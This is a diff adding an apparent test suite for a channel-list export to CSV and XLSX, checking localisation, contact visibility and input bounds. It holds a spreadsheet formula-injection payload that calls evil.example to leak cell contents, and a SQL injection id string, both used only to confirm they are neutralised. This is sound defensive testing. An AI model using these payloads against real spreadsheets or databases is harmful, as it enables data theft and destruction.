@@ -1,0 +1,150 @@
+import { parseCsv } from 'hucre/csv'
+import { readXlsx } from 'hucre/xlsx'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { BodyGiven } from '#shared/api/contract.ts'
+import { SEED_LINES_MAX } from '#shared/rules/bounds.ts'
+import { addChannels } from '#test/support/catalogue-world.ts'
+import { logIn, makeChannel, makePerson } from '#test/support/factories.ts'
+import { buy } from '#test/support/statistics-world.ts'
+import { createTestApp, type TestApp } from '#test/support/test-app.ts'
+import type { TestClient } from '#test/support/test-client.ts'
+
+let world: TestApp
+beforeAll(async () => {
+  world = await createTestApp({ env: { RATE_LIMITS: 'off' } })
+})
+afterAll(() => world[Symbol.asyncDispose]())
+
+type Rows = BodyGiven<'POST /seeds/exports'>['rows']
+
+const download = (client: TestClient, rows: Rows, format: 'csv' | 'xlsx' = 'csv', language = 'en') =>
+  client.call('POST /seeds/exports', { body: { format, rows }, headers: { 'accept-language': language } })
+
+/** The rows of a file, by heading; cells without a value are left out. */
+function recordsOf([headings = [], ...rows]: readonly (readonly unknown[])[]) {
+  return rows.map((row) =>
+    Object.fromEntries(
+      row.map((cell, at) => [String(headings[at]), cell]).filter(([, cell]) => cell !== '' && cell !== null),
+    ),
+  )
+}
+
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"free")'
+
+const FACTS = {
+  name: FORMULA,
+  platformId: 'UCexportexportexportexpo',
+  subscribers: 12_345,
+  contentTypes: ['Education', 'Tech Reviews'],
+  audiences: ['Youth'],
+  country: 'DE',
+  language: 'de',
+  lastUploadAt: new Date('2026-01-02T22:04:05Z'),
+  uploadsCheckedAt: new Date('2026-03-10T09:00:00Z'),
+  hasContact: true,
+} as const
+
+test('a file has a row for each line, in words, and runs no formula', async () => {
+  await addChannels(world.app, [FACTS])
+  const rows = [
+    { line: '+1, "north"; ', channelId: FACTS.platformId },
+    { line: '@nobody', channelId: null },
+    { line: 'gone since', channelId: 'UCnobodynobodynobodynobo' },
+  ]
+  const csv = await download(world.client(), rows)
+  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="channelbook-list.csv"')
+  for (const cell of csv.text.split(/^|,(?=")/m)) expect(cell).not.toMatch(/^"[-=+@\t\r]/)
+  expect(recordsOf(parseCsv(csv.text))).toEqual([
+    {
+      'Your line': '\'+1, "north";',
+      Channel: `'${FORMULA}`,
+      Subscribers: '12345',
+      'Content type': 'Tech Reviews, Education',
+      Audience: 'Youth',
+      Country: 'Germany',
+      Language: 'German',
+      'Last upload': '2026-01-03',
+      Contact: 'Available',
+      'Channel ID': FACTS.platformId,
+    },
+    { 'Your line': "'@nobody" },
+    { 'Your line': 'gone since' },
+  ])
+  const xlsx = await download(world.client(), rows, 'xlsx')
+  const [first] = recordsOf((await readXlsx(xlsx.bytes)).sheets[0]!.rows)
+  expect(first).toMatchObject({
+    Channel: FORMULA,
+    Subscribers: 12_345,
+    'Last upload': new Date('2026-01-03T00:00:00Z'),
+  })
+})
+
+test('a Russian file has Russian words', async () => {
+  const [id] = await addChannels(world.app, [{ ...FACTS, name: 'Северный цех', platformId: null }])
+  const { text } = await download(world.client(), [{ line: 'цех', channelId: String(id) }], 'csv', 'ru')
+  expect(recordsOf(parseCsv(text, { delimiter: ';' }))).toEqual([
+    {
+      'Ваша строка': 'цех',
+      Канал: 'Северный цех',
+      Подписчики: '12345',
+      'Тип контента': expect.stringContaining('Обзоры'),
+      Аудитория: 'Молодёжь',
+      Страна: 'Германия',
+      Язык: 'немецкий',
+      'Последнее видео': '2026-01-03',
+      Контакт: 'Есть',
+      'ID канала': String(id),
+    },
+  ])
+})
+
+test('of contacts, a file has only those that its reader has bought and that are not withheld', async () => {
+  const { app } = world
+  const [bought, withheld, other] = [await makeChannel(app), await makeChannel(app), await makeChannel(app)]
+  const client = await logIn(world, await makePerson(app, { uses: 2 }))
+  await buy(client, bought)
+  await buy(client, withheld)
+  await app.db
+    .updateTable('contact')
+    .set({ suppressed_at: app.clock.now() })
+    .where('channel_id', '=', withheld.id)
+    .execute()
+  const rows = [bought, withheld, other].map(({ channelId, name: line }) => ({ line, channelId }))
+  const contactsFor = async (reader: TestClient) =>
+    recordsOf(parseCsv((await download(reader, rows)).text)).map((row) => [
+      row['Contact'],
+      row['Bought address'],
+    ])
+  expect(await contactsFor(client)).toEqual([
+    ['Yours', bought.addresses[0]],
+    ['Available', undefined],
+    ['Available', undefined],
+  ])
+  for (const reader of [world.client(), await logIn(world, await makePerson(app))]) {
+    expect(await contactsFor(reader)).toEqual(rows.map(() => ['Available', undefined]))
+  }
+})
+
+test('channels that are gone, and made-up ones where those are not served, are unknown', async () => {
+  const [gone, demo] = [
+    await makeChannel(world.app, { isGone: true }),
+    await makeChannel(world.app, { isDemo: true }),
+  ]
+  const rows = [gone, demo].map(({ channelId }) => ({ line: 'x', channelId }))
+  const known = async (testApp: TestApp) =>
+    recordsOf(parseCsv((await download(testApp.client(), rows)).text)).map((row) => row['Channel'])
+  expect(await known(world)).toEqual([undefined, world.app.withDemo ? demo.name : undefined])
+})
+
+test('lists beyond the bound, and hostile ids, are refused or unknown', async () => {
+  const row = { line: 'x', channelId: null }
+  const tooMany = Array.from({ length: SEED_LINES_MAX + 1 }, () => row)
+  expect((await download(world.client(), tooMany)).status).toBe(400)
+  expect((await download(world.client(), [])).status).toBe(400)
+  const hostile = ["'; drop table channel; --", '1e400', '99999999999999999999', '%00', '-1', 'null']
+  const { text } = await download(
+    world.client(),
+    hostile.map((channelId) => ({ line: 'x', channelId })),
+  )
+  expect(recordsOf(parseCsv(text))).toEqual(hostile.map(() => ({ 'Your line': 'x' })))
+})
